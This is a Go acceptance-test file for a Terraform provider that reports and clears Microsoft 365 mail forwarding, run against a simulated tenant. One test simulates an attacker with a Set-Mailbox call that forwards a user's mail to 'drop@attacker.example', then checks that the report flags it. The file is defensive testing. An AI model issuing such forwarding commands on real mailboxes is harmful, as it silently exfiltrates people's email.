package mailflow_test

import (
	"fmt"
	"regexp"
	"testing"

	"github.com/hashicorp/terraform-plugin-testing/helper/resource"
	"github.com/hashicorp/terraform-plugin-testing/knownvalue"
	"github.com/hashicorp/terraform-plugin-testing/plancheck"
	"github.com/hashicorp/terraform-plugin-testing/statecheck"
	"github.com/hashicorp/terraform-plugin-testing/terraform"
	"github.com/hashicorp/terraform-plugin-testing/tfjsonpath"

	"github.com/m365harden/terraform-provider-m365harden/internal/acctest"
	"github.com/m365harden/terraform-provider-m365harden/internal/m365sim"
)

const reportAddr = "data.m365harden_forwarding_report.this"

// seedForwardingScenario: an external mailbox forward (adele), an inbox rule
// redirecting to a personal address (adele), an internal forward by
// recipient (megan → lee) and by SMTP address (lee → megan@contoso.com)
// that must not be reported, an inbox rule forwarding internally (EX form)
// and to an approved partner (megan), and a disabled rule (lee).
func seedForwardingScenario(t *testing.T, tn *acctest.Tenant) {
	t.Helper()
	if _, err := m365sim.SeedMailboxes(tn.Sim, tn.ID, m365sim.MailboxSeed{Mailboxes: []m365sim.MailboxSpec{
		{UPN: "adele@contoso.com", DisplayName: "Adele Vance", ForwardingSmtpAddress: "adele.vance@gmail.example", DeliverToMailboxAndForward: true},
		{UPN: "megan@contoso.com", DisplayName: "Megan Bowen", ForwardingAddress: "lee@contoso.com"},
		{UPN: "lee@contoso.com", DisplayName: "Lee Gu", ForwardingSmtpAddress: "megan@contoso.com"},
	}}); err != nil {
		t.Fatal(err)
	}
	off := false
	for _, r := range []struct {
		mailbox string
		spec    m365sim.InboxRuleSpec
	}{
		{"adele@contoso.com", m365sim.InboxRuleSpec{Name: "Keep a copy", RedirectTo: []string{"Adele.Personal@outlook.example"}}},
		{"megan@contoso.com", m365sim.InboxRuleSpec{Name: "Team", ForwardTo: []string{"lee@contoso.com", "alex@partner.example"}}},
		{"lee@contoso.com", m365sim.InboxRuleSpec{Name: "Old", Enabled: &off, ForwardAsAttachmentTo: []string{"lee@fabrikam.example"}}},
	} {
		if err := tn.Sim.AddInboxRule(tn.ID, r.mailbox, r.spec); err != nil {
			t.Fatal(err)
		}
	}
}

func findingCheck(route, mailbox, target, source string, enabled, allowed bool) knownvalue.Check {
	return knownvalue.ObjectPartial(map[string]knownvalue.Check{
		"route": knownvalue.StringExact(route), "mailbox": knownvalue.StringExact(mailbox), "target": knownvalue.StringExact(target),
		"source": knownvalue.StringExact(source), "enabled": knownvalue.Bool(enabled), "allowed": knownvalue.Bool(allowed),
	})
}

func reportConfig(tn *acctest.Tenant, extra string) string {
	return tn.ProviderConfig() + fmt.Sprintf(`
data "m365harden_forwarding_report" "this" {
  allowed_targets = ["partner.example"]
%s
}
`, extra)
}

func TestAccForwardingReport_basic(t *testing.T) {
	tn := acctest.NewTenant(t)
	seedForwardingScenario(t, tn)
	resource.ParallelTest(t, resource.TestCase{
		ProtoV6ProviderFactories: acctest.ProviderFactories,
		Steps: []resource.TestStep{{
			Config: reportConfig(tn, `  inbox_rule_concurrency = 2`),
			ConfigStateChecks: []statecheck.StateCheck{
				statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("accepted_domains"), knownvalue.SetExact([]knownvalue.Check{knownvalue.StringExact("contoso.com"), knownvalue.StringExact("contoso.onmicrosoft.com")})),
				statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("mailboxes_scanned"), knownvalue.Int64Exact(3)),
				statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("findings"), scenarioFindings),
				statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("not_allowed_count"), knownvalue.Int64Exact(5)),
			},
			Check: func(*terraform.State) error {
				// 1 accepted-domain, 1 remote-domain, 1 policy, 1 mailbox page and one rule call per mailbox (x2: plan and refresh)
				if n := tn.Sim.Stats().Requests(m365sim.EndpointExchange, "Get-InboxRule"); n%3 != 0 || n == 0 {
					return fmt.Errorf("Get-InboxRule called %d times, want a multiple of 3 (one per mailbox per read)", n)
				}
				return nil
			},
		}},
	})
}

// The drift scenario: a forward set on a mailbox out of band is found
// by the report and m365harden_mailbox_forwarding plans to clear it; the
// hardened remote domain and policy leave no tenant-wide findings.
func TestAccForwardingReport_driftAndHardening(t *testing.T) {
	tn := acctest.NewTenant(t)
	if _, err := m365sim.SeedMailboxes(tn.Sim, tn.ID, m365sim.MailboxSeed{Mailboxes: []m365sim.MailboxSpec{{UPN: "megan@contoso.com"}}}); err != nil {
		t.Fatal(err)
	}
	cfg := reportConfig(tn, "") + `
resource "m365harden_remote_domain" "default" {
  name                 = "Default"
  domain_name          = "*"
  auto_forward_enabled = false
}
resource "m365harden_outbound_spam_filter_policy" "default" {
  name                 = "Default"
  auto_forwarding_mode = "Off"
}
resource "m365harden_mailbox_forwarding" "megan" {
  mailbox = "megan@contoso.com"
}
`
	resource.ParallelTest(t, resource.TestCase{
		ProtoV6ProviderFactories: acctest.ProviderFactories,
		Steps: []resource.TestStep{
			{Config: cfg},
			{ // the data source read before this apply saw nothing left
				Config: cfg,
				ConfigStateChecks: []statecheck.StateCheck{
					statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("findings"), knownvalue.ListExact([]knownvalue.Check{})),
					statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("not_allowed_count"), knownvalue.Int64Exact(0)),
				},
			},
			{ // an attacker forwards megan's mail
				PreConfig: func() {
					tn.Exchange(t, "Set-Mailbox", map[string]any{"Identity": "megan@contoso.com", "ForwardingSmtpAddress": "smtp:drop@attacker.example"})
				},
				Config: cfg,
				ConfigPlanChecks: resource.ConfigPlanChecks{PreApply: []plancheck.PlanCheck{
					plancheck.ExpectResourceAction("m365harden_mailbox_forwarding.megan", plancheck.ResourceActionUpdate),
					plancheck.ExpectKnownValue("m365harden_mailbox_forwarding.megan", tfjsonpath.New("forwarding_smtp_address"), knownvalue.Null()),
				}},
				// The report was read in this plan, before the apply cleared it.
				ConfigStateChecks: []statecheck.StateCheck{
					statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("findings"), knownvalue.ListExact([]knownvalue.Check{
						findingCheck("mailbox_forwarding_smtp_address", "megan@contoso.com", "drop@attacker.example", "", true, false),
					})),
				},
				Check: mailboxForwardingIs(t, tn, "megan@contoso.com", nil, nil, false),
			},
		},
	})
}

// Throttled Get-InboxRule calls are retried (Retry-After honoured) and the
// report completes with every mailbox scanned.
func TestAccForwardingReport_throttled(t *testing.T) {
	tn := acctest.NewTenant(t)
	if _, err := m365sim.SeedMailboxes(tn.Sim, tn.ID, m365sim.MailboxSeed{Count: 40, Domain: "contoso.com", ForwardingEvery: 10, ForwardingTo: "out@fabrikam.example"}); err != nil {
		t.Fatal(err)
	}
	resource.ParallelTest(t, resource.TestCase{
		ProtoV6ProviderFactories: acctest.ProviderFactories,
		Steps: []resource.TestStep{{
			PreConfig: func() {
				tn.Sim.InjectFault(m365sim.Fault{Endpoint: m365sim.EndpointExchange, Match: "Get-InboxRule", Status: 429, Retry: 1, Times: 4})
			},
			Config: reportConfig(tn, `  inbox_rule_concurrency = 4`),
			ConfigStateChecks: []statecheck.StateCheck{
				statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("mailboxes_scanned"), knownvalue.Int64Exact(40)),
				// 4 external mailbox forwards + the Default remote domain and policy.
				statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("not_allowed_count"), knownvalue.Int64Exact(6)),
			},
			Check: func(*terraform.State) error {
				if n := tn.Sim.Stats().Statuses(m365sim.EndpointExchange, 429); n != 4 {
					return fmt.Errorf("emulator answered %d 429s, want 4", n)
				}
				return nil
			},
		}},
	})
}

// Global Reader can't read inbox rules: the error says which role and how
// to run the cheap checks only; with scan_inbox_rules = false it works.
func TestAccForwardingReport_globalReader(t *testing.T) {
	tn := acctest.NewTenant(t)
	seedForwardingScenario(t, tn)
	reader := tn.ProviderConfigAs(m365sim.DemoReaderAppID, fmt.Sprintf("client_secret = %q", m365sim.DemoReaderSecret))
	resource.ParallelTest(t, resource.TestCase{
		ProtoV6ProviderFactories: acctest.ProviderFactories,
		Steps: []resource.TestStep{
			{
				Config:      reader + `data "m365harden_forwarding_report" "this" {}`,
				ExpectError: regexp.MustCompile(`(?s)Mail\s+Recipients.*scan_inbox_rules\s+=\s+false`),
			},
			{
				Config: reader + `data "m365harden_forwarding_report" "this" {
  scan_inbox_rules = false
}`,
				ConfigStateChecks: []statecheck.StateCheck{
					statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("not_allowed_count"), knownvalue.Int64Exact(3)),
				},
			},
		},
	})
}

func TestAccForwardingReport_badInput(t *testing.T) {
	tn := acctest.NewTenant(t)
	resource.ParallelTest(t, resource.TestCase{
		ProtoV6ProviderFactories: acctest.ProviderFactories,
		Steps: []resource.TestStep{
			{Config: tn.ProviderConfig() + `data "m365harden_forwarding_report" "this" { allowed_targets = ["not a domain"] }`, ExpectError: regexp.MustCompile(`must\s+be\s+an\s+SMTP\s+address,\s+a\s+domain`)},
			{Config: tn.ProviderConfig() + `data "m365harden_forwarding_report" "this" { allowed_targets = ["Partner.example"] }`, ExpectError: regexp.MustCompile(`lower\s+case`)},
			{Config: tn.ProviderConfig() + `data "m365harden_forwarding_report" "this" { inbox_rule_concurrency = 64 }`, ExpectError: regexp.MustCompile(`between\s+1\s+and\s+16`)},
			{Config: tn.ProviderConfig() + `data "m365harden_forwarding_report" "this" { graph_batch_concurrency = 33 }`, ExpectError: regexp.MustCompile(`between\s+1\s+and\s+32`)},
			{Config: tn.ProviderConfig() + `data "m365harden_forwarding_report" "this" { allowed_outbound_policies = ["Default"] }`, ExpectError: regexp.MustCompile(`none\s+of`)},
		},
	})
}

// m365sim's forwarding scenario: the external forward and the redirecting
// inbox rule are reported, the internal forwards (by recipient, by SMTP
// address in an accepted domain, and an inbox rule to a colleague) are not.
func TestAccForwardingReport_simScenario(t *testing.T) {
	tn := acctest.NewTenant(t)
	sc, err := m365sim.SeedForwardingScenario(tn.Sim, tn.ID)
	if err != nil {
		t.Fatal(err)
	}
	resource.ParallelTest(t, resource.TestCase{
		ProtoV6ProviderFactories: acctest.ProviderFactories,
		Steps: []resource.TestStep{{
			Config: tn.ProviderConfig() + `data "m365harden_forwarding_report" "this" {}`,
			ConfigStateChecks: []statecheck.StateCheck{
				statecheck.ExpectKnownValue(reportAddr, tfjsonpath.New("findings"), knownvalue.ListExact([]knownvalue.Check{
					findingCheck("inbox_rule_redirect_to", sc.ExternalInboxRule, "lee.gu@outlook.example", "Keep a copy", true, false),
					findingCheck("mailbox_forwarding_smtp_address", sc.ExternalForward, "adele.vance@gmail.example", "", true, false),
					findingCheck("outbound_spam_policy", "", "*", "Default", true, false),
					findingCheck("remote_domain", "", "*", "Default", true, false),
				})),
			},
		}},
	})
}
